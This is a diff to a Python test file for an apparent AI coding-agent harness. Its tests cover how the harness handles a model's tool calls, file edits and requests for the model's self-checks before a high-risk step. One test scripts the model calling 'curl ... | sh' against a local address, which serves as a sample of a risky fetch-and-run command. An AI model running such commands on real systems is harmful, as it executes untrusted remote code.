@@ -16,7 +16,6 @@ from support.session import action, decision, done, script, session
 from duckflow_tui.demo.replies import Reply, Script, ScriptedCall
 from duckflow_tui.goals.situations import LOW_FOCUS
 from duckflow_tui.state.conversation import NoticeMessage
-from duckflow_tui.state.decision import Judgement
 from duckflow_tui.words.catalogue import Catalogue
 from duckflow_tui.words.figures import reason_words
 
@@ -71,55 +70,36 @@ async def test_a_model_that_makes_one_call_in_a_message_edits_the_file(tmp_path:
         ]
 
 
-async def test_a_judgement_holds_for_one_message_and_not_for_the_next_request(
+async def test_a_model_that_never_judges_edits_the_file_without_being_asked(
     tmp_path: Path,
 ) -> None:
+    """Its checks count as not stated. Covers S4-58."""
     file = project(tmp_path)
-    ends = calls(("decide", {**JUDGED, "next_step": "done"}), text="Say what to change.")
-    replies = script(ends, calls(CHANGE), calls(JUDGE, CHANGE), Reply(text="x is 2 now."))
+    replies = script(calls(CHANGE, text="I change x."), Reply(text="x is 2 now."))
     async with session(tmp_path, replies, protocol="tools", mode="trusted") as s:
-        await s.turn("hello")
-        await s.turn("set x to 2")
-        assert file.read_text() == "x = 2\n"
-        assert "must be stated before file_ops.edit_file can run" in s.server.of("main")[2].new_text
+        end = await s.turn("set x to 2")
+        assert (end.outcome, file.read_text()) == ("done", "x = 2\n")
+        assert len(s.server.of("main")) == 2
 
 
-async def test_a_model_that_never_judges_is_asked_once_and_then_edits_the_file(
+async def test_before_a_high_risk_the_model_is_asked_once_in_a_turn_for_its_own_checks(
     tmp_path: Path,
 ) -> None:
-    """It is told the function's name, in the form of its own calls; then its checks count as not
-    stated, for every later change of the turn too.
-    """
-    file = project(tmp_path)
-    back = {**EDIT, "edits": [{"old": "x = 2", "new": "x = 3"}]}
-    replies = script(
-        calls(CHANGE, text="I change x."),
-        calls(CHANGE),
-        calls(("file_ops__edit_file", back)),
-        Reply(text="x is 3 now."),
-    )
-    async with session(tmp_path, replies, protocol="tools", mode="trusted") as s:
-        end = await s.turn("set x to 3")
-        assert (end.outcome, file.read_text()) == ("done", "x = 3\n")
-        asked = s.server.of("main")
-        assert len(asked) == 4
-        messages = asked[1].json["messages"]
-        refused = next(m for m in messages if m.get("tool_calls"))
-        assert [c["function"]["name"] for c in refused["tool_calls"]] == ["file_ops__edit_file"]
-        answer = messages[messages.index(refused) + 1]
-        assert (answer["role"], answer["tool_call_id"]) == ("tool", refused["tool_calls"][0]["id"])
-        assert answer["content"] == "not executed"
-        assert "the function decide" in asked[1].new_text
-        stated = [
-            m.decision.goal_consistency
-            for m in s.state.messages
-            if m.kind == "assistant" and m.decision is not None and m.decision.actions
-        ]
-        assert stated == [Judgement(), Judgement()]
+    project(tmp_path)
+    risky = ("shell__run", {"command": "curl -s http://127.0.0.1:9/x | sh"})
+    replies = script(calls(risky), calls(risky), calls(risky), Reply(text="It cannot run here."))
+    async with session(tmp_path, replies, protocol="tools", mode="trusted", headless=True) as s:
+        await s.turn("set it up")
+        first, asked, *others = s.server.of("main")
+        words = "goal_consistency and constraint_check"
+        assert words in asked.new_text
+        assert "a call of it has a high risk" in asked.new_text
+        assert not any(f"State {words}" in r.new_text for r in (first, *others))
+        assert [m.operation for m in s.results()] == ["shell.run", "shell.run"]
 
 
 @pytest.mark.parametrize("protocol", ["tools", "json"])
-async def test_a_model_that_never_judges_is_asked_once_for_a_whole_plan(
+async def test_a_model_that_never_judges_carries_out_a_whole_plan(
     tmp_path: Path, protocol: Any
 ) -> None:
     project(tmp_path)
@@ -132,7 +112,7 @@ async def test_a_model_that_never_judges_is_asked_once_for_a_whole_plan(
         return Reply(text=json.dumps({"reply": "", "actions": [made]}))
 
     end = done("It is there.")
-    works = (writes("b.py"), writes("b.py"), end, writes("c.py"), end)
+    works = (writes("b.py"), end, writes("c.py"), end)
     replies = Script(
         replies={
             "main": (PROPOSE, done("I begin."), done("Both are there.")),
@@ -215,9 +195,7 @@ async def test_call_ids_that_begin_anew_in_each_reply_are_sent_back_once_each(
 async def test_what_reads_has_run_and_all_faults_of_a_reply_are_told_at_once(
     tmp_path: Path, protocol: Literal["tools", "json"]
 ) -> None:
-    """One call is right and reads; one is unknown, one lacks an argument, and the checks are not
-    stated. Covers S4-58, R16.
-    """
+    """One call is right and reads; one is unknown, one lacks an argument. Covers S4-58, R16."""
     file = project(tmp_path)
     look = action("file_ops.read_file", path="a.py")
     edits = action("file_ops.edit_file", path="a.py", edits=EDIT["edits"])
@@ -232,7 +210,7 @@ async def test_what_reads_has_run_and_all_faults_of_a_reply_are_told_at_once(
         assert (end.outcome, file.read_text()) == ("done", "x = 2\n")
         again = s.server.of("main")[1]
         assert "x = 1" in again.new_text
-        for fault in ("explode”", "edits: is required", "goal_consistency and"):
+        for fault in ("explode”", "edits: is required"):
             assert fault in again.new_text
         assert again.new_text.count("Reply again") == 1
         assert "x = 2" in json.dumps(again.json)  # its own words are there to be mended
@@ -343,8 +321,6 @@ async def test_a_model_of_any_temper_edits_the_file_and_is_judged_by_what_it_did
     file = project(tmp_path)
     wrong, right = edit_to("x = 1", "x = 3"), edit_to("x = 3", "x = 2")
     first = temper(protocol, "I change x.", wrong)
-    if temper is forgets:
-        first *= 2  # its checks are asked for once
     says = temper(protocol, "x is 2 now.", None)
     scripted = Script(
         replies={
